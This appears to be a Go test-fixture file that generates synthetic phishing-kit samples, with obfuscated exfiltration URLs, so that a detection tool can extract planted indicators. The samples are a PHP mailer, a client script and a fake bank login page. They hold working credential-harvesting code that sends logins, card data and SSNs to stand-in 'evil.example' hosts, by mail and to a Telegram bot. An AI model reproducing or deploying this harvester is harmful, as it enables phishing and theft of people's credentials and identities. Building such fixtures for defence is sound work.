package analyze

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"math"
	"math/rand/v2"
	"strings"
)

// Planted indicators of the kit fixtures, each hidden a different way.
const (
	plainEmail   = "drop.box@evil-mail.example"
	botToken     = "1234567890:AAEhBP0av28Fz5bLp9q_S9Cd0t9bG3xyzAB"
	chatID       = "-1001234567890"
	base64URL    = "https://collect.evil.example/gate.php"
	hexURL       = "https://hex.evil.example/x.php"
	rot13URL     = "https://rot.evil.example/p.php"
	nestedDomain = "nested.evil.example"
	jsURL        = "https://js.evil.example/beacon"
	htmlAction   = "https://form.evil.example/next.php"
)

func rot13(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'a' && r <= 'z':
			return 'a' + (r-'a'+13)%26
		case r >= 'A' && r <= 'Z':
			return 'A' + (r-'A'+13)%26
		}
		return r
	}, s)
}

// kitPHP is a phishing-kit mailer of about 6 KiB with the planted
// indicators; variant changes a few lines (a re-skinned copy of the same
// kit), seed the filler.
func kitPHP(variant int) []byte {
	var b bytes.Buffer
	nested := base64.StdEncoding.EncodeToString([]byte(hex.EncodeToString([]byte("http://" + nestedDomain + "/z"))))
	fmt.Fprintf(&b, `<?php
// coded by xX_sh4d0w_Xx -- do not resell
error_reporting(0);
session_start();
include 'config.php';
$recipient = "%s";
$bot_token = "%s";
$chat_id = "%s";
$gate = base64_decode("%s");
$backup = hex2bin("%s");
$mirror = str_rot13("%s");
$deep = hex2bin(base64_decode("%s"));
`, plainEmail, botToken, chatID,
		base64.StdEncoding.EncodeToString([]byte(base64URL)),
		hex.EncodeToString([]byte(hexURL)), rot13(rot13URL), nested)
	r := rand.New(rand.NewPCG(7, 7))
	fields := []string{"email", "password", "card", "cvv", "expiry", "ssn", "dob", "phone", "address", "zip"}
	for i := range 60 {
		f := fields[r.IntN(len(fields))]
		fmt.Fprintf(&b, "$%s_%d = isset($_POST['%s']) ? trim($_POST['%s']) : '';\n", f, i, f, f)
		if i%7 == 0 {
			fmt.Fprintf(&b, "if (strlen($%s_%d) < %d) { header('Location: index.php?error=%s'); exit; }\n", f, i, 3+i%5, f)
		}
	}
	fmt.Fprintf(&b, `$ip = $_SERVER['REMOTE_ADDR'];
$ua = $_SERVER['HTTP_USER_AGENT'];
$message = "--- Login [variant %d] ---\nIP: $ip\nUA: $ua\n";
foreach ($_POST as $k => $v) { $message .= "$k: $v\n"; }
$subject = "New Login from $ip";
mail($recipient, $subject, $message);
file_get_contents("https://api.telegram.org/bot".$bot_token."/sendMessage?chat_id=".$chat_id."&text=".urlencode($message));
$fp = fopen("logs/results_%d.txt", "a"); fwrite($fp, $message); fclose($fp);
header("Location: https://www.example-bank.example/login?ref=%d");
?>
`, variant, variant, variant)
	return b.Bytes()
}

// kitJS is the kit's client script.
func kitJS() []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, `(function(){
  var endpoint = "%s";
  function collect(form){
    var data = new FormData(form);
    fetch(endpoint, {method: "POST", body: data, mode: "no-cors"});
    document.getElementById("loader").style.display = "block";
  }
  document.addEventListener("DOMContentLoaded", function(){
    var f = document.getElementById("loginForm");
    f.addEventListener("submit", function(e){ e.preventDefault(); collect(f); setTimeout(function(){ f.submit(); }, 1500); });
  });
})();
`, jsURL)
	return b.Bytes()
}

// kitHTML is the kit's login page, with an entity-encoded e-mail address.
func kitHTML() []byte {
	var ent strings.Builder
	for _, c := range "support@html.evil.example" {
		fmt.Fprintf(&ent, "&#%d;", c)
	}
	return []byte(fmt.Sprintf(`<!DOCTYPE html>
<html><head><title>Sign in to your account</title>
<script src="js/collect.js"></script></head>
<body>
<form id="loginForm" method="post" action="%s">
<input type="email" name="login" placeholder="Email">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button>
</form>
<p>Questions? Write to %s</p>
</body></html>
`, htmlAction, ent.String()))
}

// unrelatedText is a text file with nothing in common with the kit: a
// CSS theme.
func unrelatedText() []byte {
	var b bytes.Buffer
	r := rand.New(rand.NewPCG(99, 1))
	for i := range 120 {
		fmt.Fprintf(&b, ".theme-%d .panel > li:nth-child(%d) { margin: %dpx %dpx; color: #%06x; transition: opacity %dms ease-in; }\n",
			i, r.IntN(9), r.IntN(40), r.IntN(40), r.IntN(1<<24), 100+r.IntN(900))
	}
	return b.Bytes()
}

// testImage draws a 256x256 picture with edges and gradients (a logo of
// sorts); shift moves its shapes, so shift 0 and 1 are near duplicates.
func testImage(shift int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, 256, 256))
	for y := range 256 {
		for x := range 256 {
			c := color.RGBA{uint8(x), uint8(y), uint8((x + y) / 2), 255}
			dx, dy := float64(x-100-shift), float64(y-120)
			if dx*dx+dy*dy < 60*60 {
				c = color.RGBA{200, 30, 30, 255}
			}
			if x > 160 && x < 230 && y > 40+shift && y < 90+shift {
				c = color.RGBA{20, 20, 180, 255}
			}
			if int(math.Sin(float64(x)/9)*20)+200 == y {
				c = color.RGBA{0, 0, 0, 255}
			}
			img.Set(x, y, c)
		}
	}
	return img
}

// otherImage is a picture unlike testImage: stripes.
func otherImage() *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, 256, 256))
	for y := range 256 {
		for x := range 256 {
			v := uint8(0)
			if (x/16+y/32)%2 == 0 {
				v = 255
			}
			img.Set(x, y, color.RGBA{v, 255 - v/2, v / 3, 255})
		}
	}
	return img
}

func encodePNG(img image.Image) []byte {
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func encodeJPEG(img image.Image, q int) []byte {
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, &jpeg.Options{Quality: q}); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// randomBytes is an incompressible binary.
func randomBytes(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, seed))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}
